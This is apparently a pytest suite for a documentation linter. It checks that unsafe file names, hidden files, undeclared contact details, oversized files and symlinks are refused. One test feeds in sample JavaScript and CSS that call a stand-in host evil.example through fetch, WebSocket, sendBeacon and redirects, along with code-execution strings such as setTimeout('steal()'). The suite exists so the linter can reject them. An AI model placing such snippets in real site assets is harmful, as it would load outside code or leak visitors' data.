"""Files that no case can hold: names that some machines refuse, and settings beside docs/."""

import os
import shutil
from pathlib import Path

import pytest

from guides.diagnostics import Diagnostic
from guides.load import load
from support import HERE, SAMPLE

PAGE = "---\ntitle: A page\n---\n# A page\n"


def told(folder: Path, name: str | bytes, text: str = PAGE) -> list[Diagnostic]:
    docs = shutil.copytree(SAMPLE / "docs", folder / "docs")
    path = Path(os.fsdecode(os.path.join(os.fsencode(docs), os.fsencode(name))))  # noqa: PTH118 - also of bytes
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return load(docs)[1]


def found(folder: Path, name: str | bytes, text: str = PAGE) -> list[tuple[str, str]]:
    return [(one.path, one.rule) for one in told(folder, name, text)]


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("help/con.md", "file-name"),
        ("guides/nul.md", "file-name"),
        ("help/com1.md", "file-name"),
        ("help/trailing .md", "file-name"),
        ("help/what?.md", "file-name"),
        ("help/a:b.md", "file-name"),
        ("assets/stylesheets/aux.css", "file-name"),
        ("assets/stylesheets/con/a.css", "file-name"),
        ("assets/stylesheets/a b.css", "file-name"),
        ("assets/stylesheets/a./b.css", "file-name"),
        ("help/a.md.", "file-place"),
        ("help/\x1b[2J.md", "file-name"),
        ("Guides/films.md", "file-place"),
        ("INDEX.md", "file-place"),
        (".htpasswd", "file-place"),
        (".git/config", "file-place"),
    ],
)
def test_a_name_that_some_machine_cannot_hold_or_hides_is_refused(name: str, rule: str, tmp_path: Path) -> None:
    assert rule in [rule for _, rule in found(tmp_path, name)]


@pytest.mark.parametrize(
    "name",
    [
        *("help/console.md", "help/nullable.md", "contribute/com10.md", "assets/stylesheets/a.min.css"),
        *("browse/page.md", "contribute/page.md", "about/page.md", "services/page.md"),
        *(".DS_Store", ".obsidian/app.json", ".#editing.md", "help/.page.md.swp"),
    ],
)
def test_what_looks_like_that_and_is_none_passes(name: str, tmp_path: Path) -> None:
    assert found(tmp_path, name) == []


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("assets/stylesheets/a.css", "a{background:url(https:\\\\\\\\evil.example/x)}"),
        ("assets/stylesheets/a.css", "a{background:\\75rl(//evil.example/x)}"),
        ("assets/javascripts/a.js", 'new WebSocket("wss://evil.example")'),
        ("assets/javascripts/a.js", 'new EventSource("//evil.example")'),
        ("assets/javascripts/a.js", 'navigator.sendBeacon("//evil.example", "x")'),
        ("assets/javascripts/a.js", 'Function("x")()'),
        ("assets/javascripts/a.js", 'fetch("https://evil.example/")'),
        ("assets/javascripts/a.js", 'picture.src = "//evil.example/x.png"'),
        ("assets/javascripts/a.js", "location = `http://evil.example/${name}`"),
        ("assets/javascripts/a.js", 'setTimeout("steal()", 1)'),
        ("assets/javascripts/a.js", 'navigator["serviceWorker"]["register"]("x")'),
    ],
)
def test_what_loads_from_elsewhere_is_refused(name: str, text: str, tmp_path: Path) -> None:
    assert {*found(tmp_path, name, text)} == {(f"docs/{name}", "asset-remote")}


def test_a_stylesheet_prints_no_number(tmp_path: Path) -> None:
    style = 'a::after {\n  content: "Call 1-800-555-0199";\n}\nb { width: 1800555019px }\n'
    assert [str(one) for one in told(tmp_path, "assets/stylesheets/a.css", style)] == [
        (
            "docs/assets/stylesheets/a.css:2:1: error[phone-undeclared] The stylesheet prints “1-800-555-0199”, which "
            "looks like a phone number. Take it out; numbers stand in a guide’s data, with their source."
        )
    ]


def test_a_stylesheet_of_other_bytes_than_utf8_is_read_all_the_same(tmp_path: Path) -> None:
    docs = shutil.copytree(SAMPLE / "docs", tmp_path / "docs")
    path = docs / "assets/stylesheets/a.css"
    path.parent.mkdir(parents=True)
    path.write_bytes(b"/* caf\xe9 */\n@import url(a.css);\n")
    (found,) = load(docs)[1]
    assert str(found) == (
        "docs/assets/stylesheets/a.css:2:1: error[asset-remote] `@import url(a.css)` loads something from elsewhere, "
        "or runs a text. Put what is needed into docs/assets/, and name it from there."
    )


def test_a_page_of_other_bytes_than_utf8_is_told(tmp_path: Path) -> None:
    docs = shutil.copytree(SAMPLE / "docs", tmp_path / "docs")
    (docs / "help/cafe.md").write_bytes(b"# Caf\xe9\n")
    # And those behind it are read.
    (docs / "help/tea.md").write_text(f"{PAGE}\nSee [films](https://films.example/).\n", encoding="utf-8")
    assert [(one.path, one.line, one.rule) for one in load(docs)[1]] == [
        ("docs/help/cafe.md", 1, "encoding"),
        ("docs/help/tea.md", 6, "link-host"),
    ]


def test_a_script_may_name_an_address(tmp_path: Path) -> None:
    script = 'const svg = "http://www.w3.org/2000/svg"; const half = "a" // a word\n;const way = "../" + name;\n'
    assert found(tmp_path, "assets/javascripts/a.js", script) == []


@pytest.mark.parametrize("name", ["assets/javascripts/a.js", "assets/stylesheets/a.css", "assets/fonts/a.woff2"])
def test_a_file_of_which_only_a_part_would_be_read_is_refused(name: str, tmp_path: Path) -> None:
    assert found(tmp_path / "a", name, "wOF2" + " " * 1_199_996) == []
    assert [str(one) for one in told(tmp_path / "b", name, "wOF2" + " " * 1_199_997)] == [
        (
            f"docs/{name}:1:1: error[file-size] The file has more than 1,200,000 bytes, which nobody checks and no "
            "reader waits for. Make it smaller."
        )
    ]


def test_the_address_of_a_page_has_no_number(tmp_path: Path) -> None:
    text = PAGE.replace("title: A page", "title: A page\ndescription: What helps when nothing else does, in short.")
    assert found(tmp_path, "help/call-18005550199.md", text) == [("docs/help/call-18005550199.md", "phone-undeclared")]


def test_a_name_of_other_bytes_than_utf8_is_told_and_not_a_traceback(tmp_path: Path) -> None:
    assert ("docs/help/\\xff.html", "file-place") in found(tmp_path, b"help/\xff.html")


@pytest.mark.parametrize(
    ("settings", "is_refused"),
    [
        ("extra: {root_files: [CNAME, robots.txt]}", False),
        ("extra: {root_files: [robots.txt]}", True),
        ("extra: {root_files: CNAME}", True),
        ("extra: [", True),
        ("site_name: Films", True),
    ],
)
def test_what_a_publisher_needs_is_named_in_the_settings(settings: str, tmp_path: Path, *, is_refused: bool) -> None:
    (tmp_path / "mkdocs.yml").write_text(f"{settings}\n", encoding="utf-8")
    expected = [("docs/CNAME", "file-place")] if is_refused else []
    assert found(tmp_path, "CNAME", "films.example\n") == expected


@pytest.mark.parametrize(
    ("name", "rule"),
    [("sw.js", "file-place"), ("assets/sw.js", "file-place"), ("assets/javascripts/own.js", "asset-remote")],
)
def test_no_contributor_lays_a_worker_before_the_site(name: str, rule: str, tmp_path: Path) -> None:
    script = "navigator.serviceWorker.register('/assets/javascripts/own.js', { scope: '/' });\n"
    assert rule in [rule for _, rule in found(tmp_path, name, script)]


IMPRINT = "# Imprint\n\nJane Doe, <jane@films.example>, telephone: +49 30 1234567.\n"


@pytest.mark.parametrize(
    ("contacts", "name", "rules"),
    [
        ('[jane@films.example, "+49301234567"]', "about/imprint.md", []),
        ("[jane@films.example]", "about/imprint.md", ["phone-undeclared"]),
        ("[]", "about/imprint.md", ["contact-link", "email-undeclared", "phone-undeclared"]),
        # Elsewhere nobody reads whose number it is.
        (
            '[jane@films.example, "+49301234567"]',
            "help/proof.md",
            ["contact-link", "email-undeclared", "phone-undeclared"],
        ),
    ],
)
def test_an_imprint_has_the_contacts_that_the_settings_name(
    contacts: str, name: str, rules: list[str], tmp_path: Path
) -> None:
    (tmp_path / "mkdocs.yml").write_text(f"extra: {{contacts: {contacts}}}\n", encoding="utf-8")
    assert found(tmp_path, name, IMPRINT) == [(f"docs/{name}", rule) for rule in rules]


def test_a_page_on_privacy_has_the_contacts_of_an_imprint_beside_it(tmp_path: Path) -> None:
    settings = 'extra: {contacts: [jane@films.example, "+49301234567"]}\n'
    for folder in (tmp_path / "alone", tmp_path / "beside"):
        folder.mkdir()
        (folder / "mkdocs.yml").write_text(settings, encoding="utf-8")
    assert [rule for _, rule in found(tmp_path / "alone", "about/privacy.md", IMPRINT)] == [
        *("contact-link", "email-undeclared", "phone-undeclared")
    ]
    assert found(tmp_path / "beside", "about/imprint.md", IMPRINT) == []
    (tmp_path / "beside/docs/about/privacy.md").write_text(IMPRINT, encoding="utf-8")
    assert load(tmp_path / "beside/docs")[1] == []


def test_a_contact_of_the_publisher_has_its_place_in_the_settings(tmp_path: Path) -> None:
    (one,) = told(tmp_path, "about/imprint.md", "# Imprint\n\nCall +49 30 1234567.\n")
    assert one.fix == (
        "If it is the publisher’s own, name it in mkdocs.yml, a number with its country: "
        '`extra: {contacts: [me@films.example, "+49301234567"]}`.'
    )


def test_what_a_name_may_have_is_said(tmp_path: Path) -> None:
    (one,) = told(tmp_path, "assets/stylesheets/a b.css", "a { color: red }")
    assert (one.message, one.fix) == (
        "`a b.css` is no name that every machine can hold and every address can have.",
        "Take small letters, digits, `-`, `_` and `.` only.",
    )


def test_of_a_long_name_sixty_signs_are_shown(tmp_path: Path) -> None:
    (one,) = told(tmp_path / "a", f"assets/stylesheets/a {'b' * 100}.css", "a { color: red }")
    assert one.message == f"`a {'b' * 58}` is no name that every machine can hold and every address can have."
    (one,) = told(tmp_path / "b", f"{'b' * 100}.bin", "x")
    assert one.fix == (
        f"Remove it. If the publisher needs it, name it in mkdocs.yml: `extra: {{root_files: [{'b' * 60}]}}`."
    )
    (one,) = told(tmp_path / "c", "assets/stylesheets/a.css", f"@import {'b' * 100};")
    assert one.message == f"`@import {'b' * 52}` loads something from elsewhere, or runs a text."


def test_a_link_says_where_it_leads(tmp_path: Path) -> None:
    docs = shutil.copytree(SAMPLE / "docs", tmp_path / "docs")
    (docs / "help/secret.md").symlink_to("/etc/secret")
    assert [str(one) for one in load(docs)[1]] == [
        "docs/help/secret.md:1:1: error[symlink] This is a link to `/etc/secret`, not a file. Put the file itself here."
    ]


@pytest.mark.parametrize("ending", ["svg", "png", "jpg", "jpeg", "webp", "avif", "ico", "gif"])
def test_a_picture_is_in_its_place(ending: str, tmp_path: Path) -> None:
    rules = [rule for _, rule in found(tmp_path, f"assets/images/guides/a.{ending}", "no picture")]
    assert "file-place" not in rules
    assert "image-form" in rules


def test_no_file_of_an_unknown_name_or_kind_passes(tmp_path: Path) -> None:
    """attacks/names.txt has one a line, as Python writes it."""
    listed = (HERE / "attacks/names.txt").read_text(encoding="ascii").splitlines()
    names = [line.encode().decode("unicode_escape") for line in listed]
    docs = shutil.copytree(SAMPLE / "docs", tmp_path / "docs")
    for name in names:
        path = docs / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(PAGE, encoding="utf-8")
    told = {one.path for one in load(docs)[1] if one.is_error}
    assert [name for name in names if f"docs/{name}" not in told] == []
    assert len(names) > 100
